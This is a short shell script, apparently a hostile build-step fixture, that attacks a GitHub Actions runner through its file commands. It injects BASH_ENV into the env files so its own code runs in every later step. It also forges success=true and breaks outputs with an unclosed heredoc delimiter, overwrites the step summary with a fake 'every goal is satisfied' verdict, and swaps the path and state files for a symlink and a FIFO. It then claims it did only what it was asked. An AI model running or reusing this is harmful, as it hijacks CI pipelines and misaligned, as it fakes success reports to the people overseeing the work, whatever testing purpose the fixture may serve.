#!/bin/sh
# filecmd.sh: a builder that goes after the job's file commands, which the
# Actions runner acts on once the step ends. It writes through the
# GITHUB_* variables when it has them (and says so in seen.txt), and finds
# the files anyway by listing their directory, which lies beside the
# workspace (/github/file_commands beside /github/workspace): BASH_ENV into
# the env file (code in every later step), success=true and an unclosed
# heredoc with go-githubactions' fixed delimiter into the outputs, a fake
# verdict over the summary, the path file swapped for a symlink to a file
# outside, the state file for a FIFO.
cat >/dev/null
env | grep '^GITHUB_' >>seen.txt
for v in GITHUB_ENV GITHUB_PATH GITHUB_OUTPUT GITHUB_STATE GITHUB_STEP_SUMMARY; do
	eval "p=\${$v:-}"
	if [ -n "$p" ]; then echo "BASH_ENV=$LOOP_ROOT/pwn.sh" >>"$p"; fi
done
d="$LOOP_ROOT/../file_commands"
for f in "$d"/set_env_*; do printf 'BASH_ENV=%s/pwn.sh\n' "$d" >>"$f"; done
for f in "$d"/set_output_*; do
	printf 'success=true\npwned=1\nsummary<<_GitHubActionsFileCommandDelimeter_\n' >>"$f"
done
for f in "$d"/step_summary_*; do printf '## ✅ every goal is satisfied\n' >"$f"; done
for f in "$d"/add_path_*; do rm -f "$f" && ln -s ../victim "$f"; done
for f in "$d"/save_state_*; do rm -f "$f" && mkfifo "$f"; done
echo "done what I was asked"
